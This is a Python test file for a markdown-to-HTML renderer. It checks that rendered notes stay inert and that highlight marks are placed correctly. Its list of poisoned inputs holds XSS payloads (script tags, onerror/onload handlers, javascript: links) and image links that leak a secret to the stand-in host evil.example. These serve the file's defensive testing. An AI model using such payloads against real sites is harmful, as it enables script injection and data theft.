"""Nothing of a note or a model is live on the page, and a mark is exactly where it was asked for."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.web.views.markdown import Mark, plain_to_html, to_html

ALLOWED_TAGS = frozenset(
    "p em strong s code pre ul ol li blockquote hr br table thead tbody tr th td lectern-math mark span".split()
)
# The only attributes the renderer may write, with their values.
ALLOWED_ATTRIBUTE = re.compile(
    r'^(class="(heading|code|plain|together)"|style="text-align:(left|right|center)"|start="\d+"|class="hl-[a-z0-9]+"|class="hl-[a-z0-9]+"|tabindex="0"|display)$'
)


def tags(html: str) -> list[str]:
    return re.findall(r"<[^>]*>", html)


def assert_inert(html: str) -> None:
    for tag in tags(html):
        name, *attributes = tag.strip("</> ").split(" ", 1)
        assert name.rstrip("/").strip() in ALLOWED_TAGS, tag
        for attribute in attributes and re.findall(r'[\w-]+="[^"]*"|[\w-]+', attributes[0].rstrip(" /")):
            assert ALLOWED_ATTRIBUTE.match(attribute), tag


@pytest.mark.parametrize(
    "poison",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](http://evil.example/?q=SECRET)",
        "![leak][1]\n\n[1]: http://evil.example/a.png",
        "[click](javascript:alert(1)) and [more](http://evil.example/?q=1 'title')",
        "<http://evil.example/>",
        "<iframe src=//evil.example></iframe>\n\n<style>@import '//evil.example'</style>",
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "$\\href{http://evil.example}{x}</lectern-math><script>alert(1)</script>$",
        "$$<img src=x onerror=alert(1)>$$",
        "| a |\n|---|\n| <svg onload=alert(1)> |",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '<a href="http://evil.example" onclick="x()">a</a>',
    ],
)
def test_a_poisoned_note_comes_out_inert(poison: str) -> None:
    for html in (to_html(poison), plain_to_html(poison), to_html(f"- {poison}"), to_html(f"> {poison}")):
        assert_inert(html)


@given(st.text(alphabet="<>&\"'`*_[]()!#$\\|~-= \nab1:/\U000f0000\ue000", max_size=60))
def test_whatever_a_note_holds_is_inert(text: str) -> None:
    assert_inert(to_html(text))
    assert_inert(to_html(text, [Mark(0, len(text) // 2), Mark(len(text) // 2, len(text))]))
    assert_inert(plain_to_html(text, [Mark(0, len(text))]))


def test_links_and_images_become_words() -> None:
    assert to_html("see [the book](http://x.example/b) and ![a plot](p.png)") == (
        "<p>see the book (http://x.example/b) and (image: a plot)</p>\n"
    )


def test_formulas_keep_their_source() -> None:
    assert to_html("so $a_1 * b_2 < c$ and \\(d\\)") == (
        "<p>so <lectern-math>a_1 * b_2 &lt; c</lectern-math> and <lectern-math>d</lectern-math></p>\n"
    )
    assert "<lectern-math display>x = 1</lectern-math>" in to_html("$$\nx = 1\n$$")


def test_the_full_stop_behind_a_displayed_formula_is_part_of_it() -> None:
    html = to_html(
        "The width is $$w = 2.$$, the height is $$\\frac{1}{2}$$. Both: $$\\begin{cases}1\\end{cases}$$."
    )
    assert "<lectern-math display>\\frac{1}{2}.</lectern-math> Both" in html
    assert "\\end{cases}</lectern-math>." in html  # what ends an environment stays as it is


def test_prices_are_no_formulas() -> None:
    assert to_html("from $5 to $6") == "<p>from $5 to $6</p>\n"


def test_a_mark_crosses_emphasis_items_and_formulas() -> None:
    text = "- The **owl** is\n- $x$ wide. Rest"
    html = to_html(text, [Mark(2, text.index(" Rest"), tail="<b></b>")])
    assert re.findall(r"<mark>(.*?)</mark>", html) == [
        "The ",
        "owl",
        " is",
        "<lectern-math>x</lectern-math>",
        " wide.",
    ]
    assert html.index("<b></b>") < html.index("Rest")


def test_a_mark_that_would_change_the_layout_is_drawn_on_the_text_as_written() -> None:
    text = "# Owls\n\n```py\nhoot()\n```\n\n*Hoot* hoot."
    fence = text.index("```py")
    html = to_html(text, [Mark(fence, fence + 4, tail="<b></b>"), Mark(text.index("*Hoot*"), len(text))])
    assert html == (
        '<p class="heading">Owls</p>\n<p class="plain"><mark>```p</mark><b></b>y\nhoot()\n```\n\n</p>'
        "<p><em><mark>Hoot</mark></em><mark> hoot.</mark></p>\n"
    )


@given(st.text(alphabet="ab *_`#-$.\n|>12", max_size=40), st.data())
def test_every_mark_is_drawn_once_and_nothing_is_lost(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    marked = to_html(text, [Mark(start, end, tail="<i></i>")])
    assert marked.count("<i></i>") == 1
    letters = re.sub(r"[^ab12]", "", unescape(re.sub(r"<[^>]*>", "", marked)))
    assert letters.count("a") == text.count("a")
    assert letters.count("b") == text.count("b")


def test_plain_text_marks_are_exact() -> None:
    assert plain_to_html("a < b < c", [Mark(4, 5)]) == '<p class="plain">a &lt; <mark>b</mark> &lt; c</p>'
    assert unescape(plain_to_html("# no *heading*")) == '<p class="plain"># no *heading*</p>'


def test_empty_text_is_empty() -> None:
    assert to_html("") == ""


def test_the_full_stop_behind_a_formula_stays_on_its_line_in_a_mark_too() -> None:
    text = "Half the rate, $f/2$. More."
    end = text.index(" More")
    for marks in ([], [Mark(0, end)], [Mark(0, end - 1), Mark(end - 1, end, css_class="end")]):
        html = to_html(text, marks)
        (together,) = re.findall('<span class="together">(.*?\\..*?)</span>', html)
        assert re.sub("<[^>]+>", "", together) == "f/2."
        assert re.sub("<[^>]+>", "", html) == "Half the rate, f/2. More.\n"
        assert html.count("<span") == html.count("</span>")
        assert html.count("<mark") == html.count("</mark>")
